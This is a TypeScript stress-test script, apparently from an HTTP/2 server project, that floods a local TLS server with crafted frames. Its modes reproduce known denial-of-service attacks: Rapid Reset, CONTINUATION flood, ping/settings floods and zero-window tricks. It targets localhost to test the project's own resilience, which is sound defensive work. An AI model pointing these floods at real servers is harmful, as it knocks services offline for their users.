/**
 * HTTP/2 frames that cost a server more than a client, over TLS, at a bounded
 * rate: a separate program next to the measured traffic. It reconnects whenever
 * the server ends a connection, and prints what it has sent.
 *
 * ```sh
 * deno run -A e2e/stress/flood.ts MODE PORT SECONDS RATE
 * ```
 *
 * @module
 */

import { Buffer } from "node:buffer";
import { once } from "node:events";
import tls from "node:tls";

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");

/** RFC 9113 §6. */
const TYPE = {
  data: 0,
  headers: 1,
  reset: 3,
  settings: 4,
  ping: 6,
  continuation: 9,
} as const;
const END_STREAM = 1;
const END_HEADERS = 4;

function frame(
  type: keyof typeof TYPE,
  flags: number,
  stream: number,
  payload: Uint8Array = new Uint8Array(),
): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = TYPE[type];
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A field whose name and value are literals (RFC 7541 §6.2.2). */
function literal(name: string, value: string): Buffer {
  return Buffer.concat([
    Buffer.from([0, name.length]),
    Buffer.from(name),
    Buffer.from([value.length]),
    Buffer.from(value),
  ]);
}

/** GET https://sluice.test and a path, by the static table of RFC 7541. */
function get(path: string): Buffer {
  const authority = "sluice.test";
  return Buffer.concat([
    Buffer.from([0x82, 0x87, 0x04, path.length]),
    Buffer.from(path),
    Buffer.from([0x01, authority.length]),
    Buffer.from(authority),
  ]);
}

const CANCEL = Buffer.from([0, 0, 0, 8]);
const SLOW = get("/slow");
const FIELD = literal("x-f", "f".repeat(100));
const FIELDS = Buffer.concat(Array.from({ length: 150 }, () => FIELD));
/** SETTINGS_INITIAL_WINDOW_SIZE 0. */
const NO_WINDOW = Buffer.from([0, 4, 0, 0, 0, 0]);

/** What each mode sends, again and again. */
const MODES: Readonly<Record<string, (n: number) => Buffer>> = {
  // CVE-2023-44487: a request, and at once its reset.
  resets: (n) =>
    Buffer.concat([
      frame("headers", END_HEADERS | END_STREAM, 2 * n + 1, SLOW),
      frame("reset", 0, 2 * n + 1, CANCEL),
    ]),
  // CVE-2024-27316 and its like: a head that never ends.
  continuations: (n) =>
    n === 0
      ? frame("headers", END_STREAM, 1, SLOW)
      : frame("continuation", 0, 1, FIELDS),
  // CVE-2019-9512 and CVE-2019-9515: each requires a reply.
  pings: () => frame("ping", 0, 0, Buffer.alloc(8)),
  settings: () => frame("settings", 0, 0),
  // CVE-2019-9511: answers that the client leaves no room for.
  windows: (n) =>
    n < 100
      ? frame("headers", END_HEADERS | END_STREAM, 2 * n + 1, get("/large"))
      : frame("ping", 0, 0, Buffer.alloc(8)),
  // CVE-2019-9518: pieces of a body without a byte.
  empties: (n) =>
    n === 0
      ? frame(
        "headers",
        END_HEADERS,
        1,
        Buffer.concat([Buffer.from([0x83]), SLOW.subarray(1)]),
      )
      : frame("data", 0, 1),
};

/** Modes whose client does not read the replies. */
const DEAF = new Set(["pings", "settings", "windows"]);

if (import.meta.main) {
  const [mode = "", ...numbers] = Deno.args;
  const [port, seconds, rate] = numbers.map(Number) as [number, number, number];
  const make = MODES[mode]!;
  const end = performance.now() + seconds * 1_000;
  let [connections, sent] = [0, 0];
  while (performance.now() < end) {
    const socket = tls.connect({
      port,
      host: "127.0.0.1",
      ALPNProtocols: ["h2"],
      rejectUnauthorized: false,
    });
    let open = true;
    socket.on("error", () => open = false);
    socket.on("close", () => open = false);
    try {
      await once(socket, "secureConnect");
    } catch {
      await new Promise((resolve) => setTimeout(resolve, 20));
      continue;
    }
    connections++;
    if (!DEAF.has(mode)) socket.resume();
    socket.write(PREFACE);
    socket.write(
      frame("settings", 0, 0, DEAF.has(mode) ? NO_WINDOW : undefined),
    );
    const start = performance.now();
    for (let n = 0; open && performance.now() < end;) {
      const due = (performance.now() - start) / 1_000 * rate;
      // A stream's number has 31 bits; a connection ends long before.
      for (; n < due && n < 1_000_000 && socket.writableLength < 1e6; n++) {
        socket.write(make(n));
        sent++;
      }
      await new Promise((resolve) => setTimeout(resolve, 2));
    }
    socket.destroy();
  }
  console.log(JSON.stringify({ connections, sent }));
  Deno.exit();
}
